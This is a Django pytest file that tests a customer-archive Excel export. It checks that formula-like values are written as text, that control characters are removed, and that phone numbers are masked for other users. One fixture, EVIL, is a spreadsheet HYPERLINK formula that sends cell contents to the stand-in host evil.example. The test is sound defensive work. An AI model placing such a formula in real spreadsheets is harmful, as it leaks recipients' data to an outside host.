"""The archive export: what an archive holds never becomes a formula in the recipient's spreadsheet."""

import io
from datetime import datetime, timedelta

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from customers.models import Customer
from customers.selectors import customer_export_rows, phone_shown_to
from tests.factories import ContactFactory, CustomerFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def test_a_formula_in_an_archive_is_exported_as_text(login, manager, org_tree):
    customer = CustomerFactory(
        station=org_tree["station"], manager=manager, name=EVIL, address="a\u0001\u0007\u001b[31mb"
    )
    ContactFactory(customer=customer, name="@SUM(A1)")
    response = login(manager).get(reverse("customers:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["客户名称"].value == EVIL and row["客户名称"].data_type == "s"
    assert row["主联系人"].value == "@SUM(A1)" and row["主联系人"].data_type == "s"
    assert row["用电地址"].value == "a[31mb"
    assert row["户号"].value == customer.number
    assert isinstance(row["档案核实时间"].value, datetime)


def _rows_from_the_customers(user, customers) -> list[list]:
    """What each customer's own properties show: the reference the export's rows must equal."""
    rows = []
    for customer in customers:
        primary = customer.contacts.filter(is_primary=True).first()
        phone = (primary.mobile or primary.landline) if primary else None
        rows.append(
            [
                customer.number,
                customer.name,
                customer.get_kind_display(),
                customer.get_segment_display(),
                customer.voltage,
                customer.address,
                customer.station.name,
                customer.line.name if customer.line_id else "",
                customer.district.name if customer.district_id else "",
                str(customer.manager) if customer.manager_id else "",
                primary.name if primary else "",
                phone_shown_to(user, customer, phone),
                "、".join(customer.sensitivity_labels),
                customer.completeness,
                customer.verified_at,
                _("待核实") if customer.is_stale else _("有效"),
            ]
        )
    return rows


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_each_row_shows_what_the_customer_shows(language, manager, colleague, org_tree, grid):
    nameless = UserFactory(username="wuming", real_name="", org_unit=org_tree["station"])
    station = org_tree["station"]
    long_ago = timezone.now() - timedelta(days=settings.ARCHIVE_STALE_DAYS + 1)
    customers = [
        CustomerFactory(
            station=station, manager=manager, district=grid["district"], line=grid["line"], vip_tier=2
        ),
        CustomerFactory(
            station=station,
            manager=colleague,
            kind=Customer.Kind.LARGE_INDUSTRY,
            segment=Customer.Segment.RURAL,
            voltage=Customer.Voltage.KV10,
            is_important=True,
            is_sensitive=True,
            verified_at=long_ago,
        ),
        CustomerFactory(station=station, manager=nameless, verified_at=None, is_high_sensitivity=True),
        CustomerFactory(station=station, manager=None, line=grid["other_line"]),
    ]
    ContactFactory(customer=customers[0], mobile="13512345678")
    ContactFactory(customer=customers[1], mobile="13587654321")
    ContactFactory(customer=customers[2], mobile="", landline="0855-3331234")
    ContactFactory(customer=customers[2], mobile="13500000000", is_primary=False)
    with translation.override(language):
        for user in (manager, colleague):
            exported = list(customer_export_rows(user=user, params={}))
            expected = _rows_from_the_customers(user, sorted(customers, key=lambda c: -c.pk))
            assert exported == expected
    assert exported[-1][11] == "135****5678"  # the colleague sees another's phone masked
